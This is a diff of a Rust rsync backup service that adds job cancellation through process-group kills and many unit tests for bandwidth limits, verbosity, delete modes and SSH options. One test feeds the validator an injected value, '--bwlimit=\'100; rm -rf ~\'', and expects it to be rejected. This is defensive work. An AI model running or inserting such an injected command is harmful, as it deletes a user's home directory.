+        if let Some(pid) = self.runs.take_pid(job_id) {
+            #[cfg(unix)]
+            {
+                use std::process::Command;
+                // First try to kill the process group (handles child processes)
+                // Use SIGKILL (-9) to force termination
+                let _ = Command::new("kill")
+                    .args(["-9", &format!("-{}", pid)]) // Negative PID kills process group
+                    .status();
+
+                // Also kill the specific PID in case process group kill didn't work
+                let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+
+                // Additionally, try pkill to catch any orphaned rsync children
+                let _ = Command::new("pkill")
+                    .args(["-9", "-P", &pid.to_string()])
+                    .status();
+            }
 
-                #[cfg(windows)]
-                {
-                    use std::process::Command;
-                    // On Windows, use taskkill with /T to kill child processes
-                    let _ = Command::new("taskkill")
-                        .args(["/PID", &pid.to_string(), "/T", "/F"])
-                        .status();
-                }
+            #[cfg(windows)]
+            {
+                use std::process::Command;
+                // On Windows, use taskkill with /T to kill child processes
+                let _ = Command::new("taskkill")
+                    .args(["/PID", &pid.to_string(), "/T", "/F"])
+                    .status();
             }
         }
         Ok(())
@@ -455,18 +1075,17 @@ impl RsyncService {
 
     /// Check if job is running
     pub fn is_job_running(&self, job_id: &str) -> bool {
-        if let Ok(jobs) = self.active_jobs.lock() {
-            jobs.contains_key(job_id)
-        } else {
-            false
-        }
+        self.runs.is_running(job_id)
     }
 
     /// Mark job as completed (remove from active)
     pub fn mark_completed(&self, job_id: &str) {
-        if let Ok(mut jobs) = self.active_jobs.lock() {
-            jobs.remove(job_id);
-        }
+        self.runs.finish(job_id);
+    }
+
+    /// Running jobs and their latest progress
+    pub fn runs(&self) -> &RunTracker {
+        &self.runs
     }
 
     /// Update latest symlink after successful backup
@@ -493,7 +1112,9 @@ impl Default for RsyncService {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::types::job::{JobStatus, RsyncConfig, SshConfig, SyncJob, SyncMode};
+    use crate::types::job::{
+        DeleteMode, DeleteThreshold, JobStatus, RsyncConfig, SshConfig, SyncJob, SyncMode,
+    };
 
     fn create_test_job(mode: SyncMode) -> SyncJob {
         SyncJob {
@@ -501,6 +1122,7 @@ mod tests {
             name: "Test Job".to_string(),
             source_path: "/src".to_string(),
             dest_path: "/dest".to_string(),
+            dest_subfolder: None,
             mode,
             status: JobStatus::Idle,
             destination_type: None,
@@ -510,8 +1132,279 @@ mod tests {
             ssh_config: None,
             cloud_config: None,
             last_run: None,
+            enabled: true,
+            auto_index: true,
             snapshots: None,
+            env: HashMap::new(),
+        }
+    }
+
+    #[test]
+    fn test_rsync_status_found() {
+        let stdout = "rsync  version 3.2.7  protocol version 31\nCopyright (C) 1996-2022\n";
+        let status = rsync_status_from_probe(Ok((true, stdout.to_string()))).unwrap();
+        assert!(status.installed);
+        assert_eq!(
+            status.version.as_deref(),
+            Some("rsync  version 3.2.7  protocol version 31")
+        );
+    }
+
+    #[test]
+    fn test_rsync_status_not_found() {
+        let probe = Err(std::io::Error::from(std::io::ErrorKind::NotFound));
+        let err = rsync_status_from_probe(probe).unwrap_err().to_string();
+        assert!(err.contains("rsync not found"));
+        assert!(err.contains("install it via"));
+    }
+
+    #[test]
+    fn test_rsync_status_failed_probe() {
+        assert!(rsync_status_from_probe(Ok((false, String::new()))).is_err());
+    }
+
+    #[test]
+    fn test_rsync_version_parse() {
+        let v = RsyncVersion::parse("rsync  version 3.2.7  protocol version 31").unwrap();
+        assert_eq!((v.major, v.minor, v.patch), (3, 2, 7));
+        assert!(v.supports_mkpath());
+
+        let apple = RsyncVersion::parse("rsync  version 2.6.9  protocol version 29").unwrap();
+        assert!(!apple.supports_mkpath());
+        assert!(
+            !RsyncVersion::parse("rsync version v3.2.2 protocol version 31")
+                .unwrap()
+                .supports_mkpath()
+        );
+        assert_eq!(
+            RsyncVersion::parse("rsync version 3.3 protocol version 32"),
+            Some(RsyncVersion {
+                major: 3,
+                minor: 3,
+                patch: 0
+            })
+        );
+        assert_eq!(RsyncVersion::parse("openrsync: protocol version 29"), None);
+    }
+
+    #[test]
+    fn test_scheduled_bwlimit_by_time_of_day() {
+        let window = |start: &str, end: &str, kbps: u32| BandwidthWindow {
+            start: start.to_string(),
+            end: end.to_string(),
+            bwlimit_kbps: kbps,
+        };
+        // Business hours throttled, a tighter lunch slot, and a late window
+        // running past midnight
+        let schedule = vec![
+            window("09:00", "17:00", 2000),
+            window("12:00", "13:00", 500),
+            window("22:00", "02:00", 8000),
+        ];
+        let at = |hh: u32, mm: u32| {
+            scheduled_bwlimit(
+                &schedule,
+                chrono::NaiveTime::from_hms_opt(hh, mm, 0).unwrap(),
+            )
+        };
+
+        assert_eq!(at(3, 0), None);
+        assert_eq!(at(8, 59), None);
+        assert_eq!(at(9, 0), Some(2000));
+        assert_eq!(at(12, 30), Some(500));
+        assert_eq!(at(13, 0), Some(2000));
+        assert_eq!(at(17, 0), None);
+        assert_eq!(at(23, 15), Some(8000));
+        assert_eq!(at(0, 30), Some(8000));
+        assert_eq!(at(2, 0), None);
+
+        // Bad times and zero limits never apply; equal times cover the day
+        let odd = vec![
+            window("9am", "17:00", 100),
+            window("00:00", "23:59", 0),
+            window("06:00", "06:00", 3000),
+        ];
+        let noon = chrono::NaiveTime::from_hms_opt(12, 0, 0).unwrap();
+        assert_eq!(scheduled_bwlimit(&odd, noon), Some(3000));
+        assert_eq!(scheduled_bwlimit(&[], noon), None);
+    }
+
+    #[test]
+    fn test_bwlimit_flag_follows_schedule() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        let has_bwlimit = |job: &SyncJob| {
+            service
+                .build_rsync_args(job, "/dest", None)
+                .iter()
+                .any(|a| a.starts_with("--bwlimit="))
+        };
+        assert!(!has_bwlimit(&job));
+
+        // A window covering the whole day always applies
+        job.config.bandwidth_schedule = vec![BandwidthWindow {
+            start: "00:00".to_string(),
+            end: "00:00".to_string(),
+            bwlimit_kbps: 750,
+        }];
+        assert!(service
+            .build_rsync_args(&job, "/dest", None)
+            .contains(&"--bwlimit=750".to_string()));
+    }
+
+    #[test]
+    fn test_bwlimit_flag_from_job_cap() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        let bwlimits = |job: &SyncJob| -> Vec<String> {
+            service
+                .build_rsync_args(job, "/dest", None)
+                .into_iter()
+                .filter(|a| a.starts_with("--bwlimit"))
+                .collect()
+        };
+
+        job.config.bwlimit_kbps = Some(0);
+        assert!(bwlimits(&job).is_empty());
+        job.config.bwlimit_kbps = Some(500);
+        assert_eq!(bwlimits(&job), vec!["--bwlimit=500"]);
+
+        // Inside a window the schedule's limit replaces the cap
+        job.config.bandwidth_schedule = vec![BandwidthWindow {
+            start: "00:00".to_string(),
+            end: "00:00".to_string(),
+            bwlimit_kbps: 750,
+        }];
+        assert_eq!(bwlimits(&job), vec!["--bwlimit=750"]);
+    }
+
+    #[test]
+    fn test_custom_command_bwlimit() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.config.bwlimit_kbps = Some(2000);
+        job.config.custom_command =
+            Some("rsync -a --bwlimit={bwlimit} {source} {dest}".to_string());
+        let command = service.build_command(&job, "/dest", None).unwrap();
+        assert!(command.args.contains(&"--bwlimit=2000".to_string()));
+
+        job.config.bwlimit_kbps = None;
+        let command = service.build_command(&job, "/dest", None).unwrap();
+        assert!(command.args.contains(&"--bwlimit=0".to_string()));
+
+        for ok in ["--bwlimit=1.5M", "--bwlimit 300K", "--bwlimit=800"] {
+            job.config.custom_command = Some(format!("rsync -a {} {{source}} {{dest}}", ok));
+            assert!(service.build_command(&job, "/dest", None).is_ok(), "{}", ok);
         }
+        for bad in [
+            "--bwlimit='100; rm -rf ~'",
+            "--bwlimit=fast",
+            "--bwlimit",
+            "--bwlimit=-1",
+        ] {
+            job.config.custom_command = Some(format!("rsync -a {{source}} {{dest}} {}", bad));
+            let result = service.build_command(&job, "/dest", None);
+            assert!(
+                matches!(result, Err(AmberError::ValidationError(_))),
+                "{} should be rejected",
+                bad
+            );
+        }
+    }
+
+    #[test]
+    fn test_mkpath_only_when_requested_and_supported() {
+        let with_version = |version: Option<RsyncVersion>| {
+            let service = RsyncService::new();
+            service.version.set(version).unwrap();
+            service
+        };
+        let mut job = create_test_job(SyncMode::Mirror);
+        let modern = with_version(Some(RsyncVersion::MKPATH));
+        let old = with_version(RsyncVersion::parse(
+            "rsync  version 3.1.3  protocol version 31",
+        ));
+        let unknown = with_version(None);
+
+        // Not requested: never added
+        assert!(!modern
+            .build_rsync_args(&job, "/dest", None)
+            .contains(&"--mkpath".to_string()));
+
+        job.config.create_dest = true;
+        assert!(modern
+            .build_rsync_args(&job, "/dest", None)
+            .contains(&"--mkpath".to_string()));
+        assert!(!old
+            .build_rsync_args(&job, "/dest", None)
+            .contains(&"--mkpath".to_string()));
+        assert!(!unknown
+            .build_rsync_args(&job, "/dest", None)
+            .contains(&"--mkpath".to_string()));
+    }
+
+    #[test]
+    fn test_protocol_flag_only_when_set() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        let protocol_args = |job: &SyncJob| {
+            service
+                .build_rsync_args(job, "/dest", None)
+                .into_iter()
+                .filter(|a| a.starts_with("--protocol"))
+                .collect::<Vec<_>>()
+        };
+        assert!(protocol_args(&job).is_empty());
+
+        job.config.protocol_version = Some(29);
+        assert_eq!(protocol_args(&job), vec!["--protocol=29"]);
+    }
+
+    #[test]
+    fn test_protocol_mismatch_from_captured_stderr() {
+        let local = RsyncVersion::parse("rsync  version 3.2.7  protocol version 31");
+        let versions = |err: Option<AmberError>| match err {
+            Some(AmberError::RsyncProtocolMismatch { local, remote }) => Some((local, remote)),
+            other => panic!("expected a protocol mismatch, got {:?}", other),
+        };
+
+        // Remote too old, run with -vv so the negotiation is logged
+        let too_old = "(Client) Protocol versions: remote=26, negotiated=26\n\
+                       protocol version mismatch -- is your shell clean?\n\
+                       (see the rsync manpage for an explanation)\n\
+                       rsync error: protocol incompatibility (code 2) at compat.c(622) [sender=3.2.7]\n";
+        assert_eq!(
+            versions(protocol_mismatch(too_old, local)),
+            Some(("3.2.7".to_string(), "protocol 26".to_string()))
+        );
+
+        // Startup tags name each side's release
+        let tagged = "rsync: --protocol must be at least 20 on the Server.\n\
+                      rsync error: protocol incompatibility (code 2) at compat.c(600) [server=2.6.9]\n\
+                      rsync error: protocol incompatibility (code 2) at io.c(228) [client=3.1.3]\n";
+        assert_eq!(
+            versions(protocol_mismatch(tagged, local)),
+            Some(("3.1.3".to_string(), "2.6.9".to_string()))
+        );
+
+        // Nothing but the complaint: fall back to the local banner
+        let bare = "protocol version mismatch -- is your shell clean?\n";
+        assert_eq!(
+            versions(protocol_mismatch(bare, local)),
+            Some(("3.2.7".to_string(), "unknown version".to_string()))
+        );
+        assert_eq!(
+            versions(protocol_mismatch(bare, None)),
+            Some(("unknown version".to_string(), "unknown version".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_other_failures_are_not_protocol_mismatches() {
+        let denied = "rsync: [sender] opendir \"/src/private\" failed: Permission denied (13)\n\
+                      rsync error: some files/attrs were not transferred (code 23) at main.c(1338) [sender=3.2.7]\n";
+        assert!(protocol_mismatch(denied, None).is_none());
+        assert!(protocol_mismatch("", None).is_none());
     }
 
     #[test]
@@ -531,6 +1424,252 @@ mod tests {
         assert!(args.contains(&"--progress".to_string()));
     }
 
+    #[test]
+    fn test_verbosity_levels_select_output_flags() {
+        let service = RsyncService::new();
+        service.version.set(Some(RsyncVersion::MKPATH)).unwrap();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.config.verbose = true;
+        let output_flags = [
+            "--itemize-changes",
+            "--stats",
+            "--progress",
+            "--info=progress2,stats2",
+            "--info=stats2",
+            "-v",
+        ];
+        let expected: [(RsyncVerbosity, &[&str]); 3] = [
+            (
+                RsyncVerbosity::Full,
+                &["--itemize-changes", "--stats", "--progress", "-v"],
+            ),
+            (RsyncVerbosity::Progress, &["--info=progress2,stats2"]),
+            (RsyncVerbosity::Quiet, &["--info=stats2"]),
+        ];
+
+        for (verbosity, flags) in expected {
+            job.config.verbosity = verbosity;
+            let args = service.build_rsync_args(&job, "/dest", None);
+            let mut present: Vec<&str> = output_flags
+                .iter()
+                .copied()
+                .filter(|f| args.iter().any(|a| a == f))
+                .collect();
+            present.sort();
+            let mut flags = flags.to_vec();
+            flags.sort();
+            assert_eq!(present, flags, "{:?}", verbosity);
+            assert!(args.contains(&"--human-readable".to_string()));
+        }
+    }
+
+    #[test]
+    fn test_quiet_levels_fall_back_without_info_flags() {
+        let with_version = |version: Option<RsyncVersion>| {
+            let service = RsyncService::new();
+            service.version.set(version).unwrap();
+            service
+        };
+        let new = with_version(RsyncVersion::parse(
+            "rsync  version 3.1.0  protocol version 31",
+        ));
+        let old = with_version(RsyncVersion::parse(
+            "rsync  version 2.6.9  protocol version 29",
+        ));
+        let unknown = with_version(None);
+        let mut job = create_test_job(SyncMode::Mirror);
+        let has = |service: &RsyncService, job: &SyncJob, flag: &str| {
+            service
+                .build_rsync_args(job, "/dest", None)
+                .iter()
+                .any(|a| a == flag)
+        };
+
+        job.config.verbosity = RsyncVerbosity::Progress;
+        assert!(has(&new, &job, "--info=progress2,stats2"));
+        assert!(!has(&new, &job, "--progress"));
+        for service in [&old, &unknown] {
+            assert!(!has(service, &job, "--info=progress2,stats2"));
+            assert!(has(service, &job, "--progress"));
+            assert!(has(service, &job, "--stats"));
+        }
+
+        job.config.verbosity = RsyncVerbosity::Quiet;
+        assert!(has(&new, &job, "--info=stats2"));
+        assert!(!has(&new, &job, "--stats"));
+        for service in [&old, &unknown] {
+            assert!(!has(service, &job, "--info=stats2"));
+            assert!(has(service, &job, "--stats"));
+            assert!(!has(service, &job, "--progress"));
+        }
+    }
+
+    #[test]
+    fn test_parse_output_line_full_listing() {
+        let progress = parse_output_line(
+            "         16,384 100%    4.00MB/s    0:00:00 (xfr#2, to-chk=5/10)",
+            RsyncVerbosity::Full,
+        );
+        assert_eq!(
+            progress,
+            RsyncOutputLine::Progress {
+                transferred: "16,384".to_string(),
+                percentage: 100,
+                speed: "4.00MB/s".to_string(),
+                eta: "0:00:00".to_string(),
+            }
+        );
+        assert_eq!(
+            parse_output_line(">f+++++++++ docs/a.txt", RsyncVerbosity::Full),
+            RsyncOutputLine::File(">f+++++++++ docs/a.txt".to_string())
+        );
+        assert!(matches!(
+            parse_output_line("sending incremental file list", RsyncVerbosity::Full),
+            RsyncOutputLine::Info(_)
+        ));
+    }
+
+    #[test]
+    fn test_parse_output_line_minimal_output() {
+        // --info=progress2 with --human-readable
+        assert_eq!(
+            parse_output_line(
+                "          1.07G  45%   12.34MB/s    0:01:23 (xfr#120, ir-chk=1000/2000)",
+                RsyncVerbosity::Progress
+            ),
+            RsyncOutputLine::Progress {
+                transferred: "1.07G".to_string(),
+                percentage: 45,
+                speed: "12.34MB/s".to_string(),
+                eta: "0:01:23".to_string(),
+            }
+        );
+
+        // --info=stats2 summary lines are never mistaken for files
+        for line in [
+            "Number of files: 1,234 (reg: 1,000, dir: 234)",
+            "Number of regular files transferred: 12",
+            "Total file size: 1.23G bytes",
+            "sent 1.23M bytes  received 4.56K bytes  123.45K bytes/sec",
+            "total size is 1.23G  speedup is 999.99",
+        ] {
+            for verbosity in [RsyncVerbosity::Progress, RsyncVerbosity::Quiet] {
+                assert_eq!(
+                    parse_output_line(line, verbosity),
+                    RsyncOutputLine::Info(line.to_string())
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_split_output_breaks_on_carriage_returns() {
+        let raw = "sending incremental file list\n\
+                   \r    100  10%  1.00kB/s  0:00:09\r    500  50%  1.00kB/s  0:00:05\
+                   \r  1,000 100%  1.00kB/s  0:00:00 (xfr#1, to-chk=0/1)\n\
+                   total size is 1,000";
+        let lines: Vec<String> = split_output(std::io::Cursor::new(raw))
+            .filter(|l| !l.trim().is_empty())
+            .collect();
+        assert_eq!(lines.len(), 5);
+        assert_eq!(lines[0], "sending incremental file list");
+        assert!(lines[1..4].iter().all(|l| matches!(
+            parse_output_line(l, RsyncVerbosity::Progress),
+            RsyncOutputLine::Progress { .. }
+        )));
+        assert_eq!(lines[4], "total size is 1,000");
+    }
+
+    #[test]
+    fn test_parse_progress_line_reads_numbers() {
+        assert_eq!(
+            parse_progress_line("         16,384 100%    4.00MB/s    0:00:00 (xfr#2, to-chk=5/10)"),
+            Some(RsyncProgress {
+                bytes_done: 16_384,
+                total_bytes: Some(16_384),
+                percent: 100,
+                rate_bytes_per_sec: 4_000_000,
+                eta_seconds: 0,
+            })
+        );
+        assert_eq!(
+            parse_progress_line(
+                "          1.07G  45%   12.34MB/s    1:01:23 (xfr#120, ir-chk=1000/2000)"
+            ),
+            Some(RsyncProgress {
+                bytes_done: 1_070_000_000,
+                total_bytes: Some(2_377_777_777),
+                percent: 45,
+                rate_bytes_per_sec: 12_340_000,
+                eta_seconds: 3683,
+            })
+        );
+
+        // Nothing transferred yet: no total to work out
+        let start = parse_progress_line("              0   0%    0.00kB/s    0:00:00").unwrap();
+        assert_eq!(start.total_bytes, None);
+        assert_eq!(start.rate_bytes_per_sec, 0);
+
+        for line in [
+            "sending incremental file list",
+            ">f+++++++++ docs/a.txt",
+            "sent 1.23M bytes  received 4.56K bytes  123.45K bytes/sec",
+            "",
+        ] {
+            assert_eq!(parse_progress_line(line), None, "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_progress_updates_survive_partial_reads() {
+        // A small buffer hands each update over in pieces, as a pipe can
+        let raw = "\r     10,000  10%  1.00MB/s  0:00:09\r     50,000  50%  1.00MB/s  0:00:05\
+                   \r    100,000 100%  1.00MB/s  0:00:00 (xfr#1, to-chk=0/1)\n";
+        let reader = std::io::BufReader::with_capacity(7, std::io::Cursor::new(raw));
+        let updates: Vec<RsyncProgress> = split_output(reader)
+            .filter_map(|line| parse_progress_line(&line))
+            .collect();
+        let done: Vec<(u64, u8, u64)> = updates
+            .iter()
+            .map(|p| (p.bytes_done, p.percent, p.eta_seconds))
+            .collect();
+        assert_eq!(
+            done,
+            vec![(10_000, 10, 9), (50_000, 50, 5), (100_000, 100, 0)]
+        );
+        assert!(updates.iter().all(|p| p.total_bytes == Some(100_000)));
+    }
+
+    #[test]
+    fn test_cross_filesystems_drops_one_file_system() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        assert!(!job.config.cross_filesystems);
+
+        job.config.cross_filesystems = true;
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.contains(&"--one-file-system".to_string()));
+    }
+
+    #[test]
+    fn test_xattr_and_acl_flags_follow_the_config() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.contains(&"-X".to_string()));
+        assert!(!args.contains(&"-A".to_string()));
+
+        job.config.preserve_xattrs = true;
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(args.contains(&"-X".to_string()));
+        assert!(!args.contains(&"-A".to_string()));
+
+        job.config.preserve_acls = true;
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(args.contains(&"-X".to_string()));
+        assert!(args.contains(&"-A".to_string()));
+    }
+
     #[test]
     fn test_archive_mode_flag() {
         let service = RsyncService::new();
@@ -581,6 +1720,59 @@ mod tests {
         assert!(!args.contains(&"--delete".to_string()));
     }
 
+    #[test]
+    fn test_delete_modes_emit_matching_flag() {
+        let service = RsyncService::new();
+        for (mode, flag) in [
+            (DeleteMode::Auto, "--delete"),
+            (DeleteMode::Before, "--delete-before"),
+            (DeleteMode::During, "--delete-during"),
+            (DeleteMode::After, "--delete-after"),
+        ] {
+            let mut job = create_test_job(SyncMode::Mirror);
+            job.config.delete = true;
+            job.config.delete_mode = mode;
+
+            let args = service.build_rsync_args(&job, "/dest", None);
+            let delete_flags: Vec<_> = args.iter().filter(|a| a.starts_with("--delete")).collect();
+            assert_eq!(delete_flags, vec![flag], "mode {:?}", mode);
+        }
+    }
+
+    #[test]
+    fn test_count_threshold_is_passed_as_max_delete() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.config.max_delete = Some(DeleteThreshold::Count(500));
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.iter().any(|a| a.starts_with("--max-delete")));
+
+        job.config.delete = true;
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(args.contains(&"--max-delete=500".to_string()));
+
+        // A percentage depends on the destination, which only the dry run sees
+        job.config.max_delete = Some(DeleteThreshold::Percent(20));
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.iter().any(|a| a.starts_with("--max-delete")));
+    }
+
+    #[test]
+    fn test_delete_excluded_requires_delete() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.config.delete_excluded = true;
+        job.config.delete_mode = DeleteMode::Before;
+
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.iter().any(|a| a.starts_with("--delete")));
+
+        job.config.delete = true;
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(args.contains(&"--delete-before".to_string()));
+        assert!(args.contains(&"--delete-excluded".to_string()));
+    }
+
     #[test]
     fn test_verbose_flag() {
         let service = RsyncService::new();
@@ -603,6 +1795,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -630,6 +1825,9 @@ mod tests {
             disable_host_key_checking: Some(true),
             proxy_jump: None,
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -654,6 +1852,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: Some("bastion@10.0.0.1".to_string()),
             custom_ssh_options: None,
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -676,6 +1877,41 @@ mod tests {
         assert!(args.contains(&"/dest/new-snapshot".to_string()));
     }
 
+    #[test]
+    fn test_link_dest_is_relative_to_new_snapshot() {
+        let service = RsyncService::new();
+        let temp = tempfile::TempDir::new().unwrap();
+        let base = temp.path().join("source");
+        let previous = base.join("2024-01-01-120000");
+        std::fs::create_dir_all(&previous).unwrap();
+        #[cfg(unix)]
+        std::os::unix::fs::symlink("2024-01-01-120000", base.join(LATEST_SYMLINK_NAME)).unwrap();
+
+        let final_dest = base.join("2024-01-02-120000");
+        let link = service.link_dest_for(&base, &final_dest).unwrap();
+        assert_eq!(link, PathBuf::from("../2024-01-01-120000"));
+
+        // rsync resolves it against the new snapshot dir
+        std::fs::create_dir_all(&final_dest).unwrap();
+        assert_eq!(
+            final_dest.join(&link).canonicalize().unwrap(),
+            previous.canonicalize().unwrap()
+        );
+
+        // Still points at the previous snapshot after the destination moves
+        let moved = temp.path().join("moved");
+        std::fs::rename(&base, &moved).unwrap();
+        let moved_final = moved.join("2024-01-02-120000");
+        assert!(moved_final.join(&link).is_dir());
+
+        let args = service.build_rsync_args(
+            &create_test_job(SyncMode::TimeMachine),
+            final_dest.to_str().unwrap(),
+            link.to_str(),
+        );
+        assert!(args.contains(&"--link-dest=../2024-01-01-120000".to_string()));
+    }
+
     #[test]
     fn test_time_machine_no_link_dest() {
         let service = RsyncService::new();
@@ -697,6 +1933,23 @@ mod tests {
         assert!(args.contains(&"--exclude=temp/".to_string()));
     }
 
+    #[test]
+    fn test_exclude_patterns_are_deduplicated_in_order() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.config.exclude_patterns = [" temp/", "*.log", "", "temp/", "  ", "*.log ", ".cache"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
+
+        let args = service.build_rsync_args(&job, "/dest", None);
+        let excludes: Vec<&str> = args
+            .iter()
+            .filter_map(|a| a.strip_prefix("--exclude="))
+            .collect();
+        assert_eq!(excludes, vec!["temp/", "*.log", ".cache"]);
+    }
+
     #[test]
     fn test_trailing_slash_on_source() {
         let service = RsyncService::new();
@@ -726,7 +1979,9 @@ mod tests {
         job.config.custom_command =
             Some("rsync -a {source} {dest} --link-dest={linkDest}".to_string());
 
-        let command = service.build_command(&job, "/dest/new", Some("/dest/old"));
+        let command = service
+            .build_command(&job, "/dest/new", Some("/dest/old"))
+            .unwrap();
         assert_eq!(command.program, "rsync");
         assert!(command.args.contains(&"/src/".to_string()));
         assert!(command.args.contains(&"/dest/new".to_string()));
@@ -739,7 +1994,7 @@ mod tests {
         let mut job = create_test_job(SyncMode::Mirror);
         job.config.custom_command = Some("rsync -a {source} {dest}".to_string());
 
-        let command = service.build_command(&job, "/dest", None);
+        let command = service.build_command(&job, "/dest", None).unwrap();
         assert_eq!(command.program, "rsync");
         assert!(command.args.contains(&"/src/".to_string()));
         assert!(command.args.contains(&"/dest".to_string()));
@@ -829,6 +2084,70 @@ mod tests {
         assert!(e_idx.is_none(), "Should NOT have -e flag for local path");
     }
 
+    #[test]
+    fn test_ssh_job_gets_keepalive_and_compression() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.source_path = "user@host:/data".to_string();
+        job.ssh_config = None;
+        job.config.compress = false;
+
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(args.contains(&"-z".to_string()));
+        let e_idx = args.iter().position(|a| a == "-e").unwrap();
+        let ssh_cmd = &args[e_idx + 1];
+        assert!(ssh_cmd.contains("-o ServerAliveInterval=15"), "{}", ssh_cmd);
+        assert!(ssh_cmd.contains("-o ServerAliveCountMax=4"), "{}", ssh_cmd);
+    }
+
+    #[test]
+    fn test_local_job_gets_no_ssh_defaults() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.source_path = "/local/path".to_string();
+        job.ssh_config = None;
+        job.config.compress = false;
+
+        let args = service.build_rsync_args(&job, "/dest", None);
+        assert!(!args.contains(&"-z".to_string()));
+        assert!(!args.iter().any(|a| a.contains("ServerAlive")));
+    }
+
+    #[test]
+    fn test_ssh_tunables_override_defaults() {
+        let service = RsyncService::new();
+        let mut job = create_test_job(SyncMode::Mirror);
+        job.source_path = "user@host:/data".to_string();
+        job.config.compress = false;
+        job.ssh_config = Some(SshConfig {
+            compress: Some(false),
+            keepalive_interval_secs: Some(30),
+            keepalive_count_max: Some(2),
+            ..SshConfig::default()
+        });
+
+        let ssh_cmd_of = |job: &SyncJob| {
+            let args = service.build_rsync_args(job, "/dest", None);
+            assert!(!args.contains(&"-z".to_string()));
+            let e_idx = args.iter().position(|a| a == "-e").unwrap();
+            args[e_idx + 1].clone()
+        };
+        let ssh_cmd = ssh_cmd_of(&job);
+        assert!(ssh_cmd.contains("-o ServerAliveInterval=30 -o ServerAliveCountMax=2"));
+
+        // Keepalives set through the custom options win
+        let ssh = job.ssh_config.as_mut().unwrap();
+        ssh.custom_ssh_options = Some("-o ServerAliveInterval=60".to_string());
+        let ssh_cmd = ssh_cmd_of(&job);
+        assert_eq!(ssh_cmd.matches("ServerAliveInterval").count(), 1);
+        assert!(ssh_cmd.contains("ServerAliveInterval=60"));
+
+        let ssh = job.ssh_config.as_mut().unwrap();
+        ssh.custom_ssh_options = None;
+        ssh.keepalive_interval_secs = Some(0);
+        assert!(!ssh_cmd_of(&job).contains("ServerAlive"));
+    }
+
     #[test]
     fn test_ssh_custom_options() {
         let service = RsyncService::new();
@@ -841,6 +2160,9 @@ mod tests {
             disable_host_key_checking: None,
             proxy_jump: None,
             custom_ssh_options: Some("-o Compression=yes".to_string()),
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -869,6 +2191,9 @@ mod tests {
             disable_host_key_checking: Some(true),
             proxy_jump: Some("bastion@10.0.0.1:2222".to_string()),
             custom_ssh_options: Some("-o ConnectTimeout=30".to_string()),
+            compress: None,
+            keepalive_interval_secs: None,
+            keepalive_count_max: None,
         });
 
         let args = service.build_rsync_args(&job, "/dest", None);
@@ -904,18 +2229,18 @@ mod tests {
     }
 
     #[test]
-    fn test_ssh_local_part_extraction() {
-        // Test that ssh_local_part properly extracts paths
-        use crate::utils::ssh_local_part;
+    fn test_ssh_remote_path_extraction() {
+        // Test that parse_ssh_remote properly extracts paths
+        let path = |s: &str| parse_ssh_remote(s).map(|r| r.path);
 
-        assert_eq!(ssh_local_part("user@host:/var/www"), Some("/var/www"));
+        assert_eq!(path("user@host:/var/www").as_deref(), Some("/var/www"));
         assert_eq!(
-            ssh_local_part("user@host:/home/user/docs"),
+            path("user@host:/home/user/docs").as_deref(),
             Some("/home/user/docs")
         );
-        assert_eq!(ssh_local_part("user@192.168.1.1:/backup"), Some("/backup"));
-        assert_eq!(ssh_local_part("/local/path"), None);
-        assert_eq!(ssh_local_part("relative/path"), None);
+        assert_eq!(path("user@192.168.1.1:/backup").as_deref(), Some("/backup"));
+        assert_eq!(path("/local/path"), None);
+        assert_eq!(path("relative/path"), None);
     }
 
     #[test]
@@ -934,6 +2259,60 @@ mod tests {
             .any(|a| a == "user@remote:/home/user/documents/"));
     }
 
+    #[test]
+    fn test_source_basename_uses_parsed_remote_path() {
+        assert_eq!(
+            source_basename("user@remote:/home/user/documents"),
+            "documents"
+        );
+        assert_eq!(source_basename("git@[::1]:/srv"), "srv");
+        assert_eq!(source_basename("host:/p:ath"), "p:ath");
+        assert_eq!(source_basename("nas:photos/"), "photos");
+        assert_eq!(source_basename("user@host:"), "backup");
+        assert_eq!(source_basename("/Users/demo/Documents"), "Documents");
+    }
+
+    #[test]
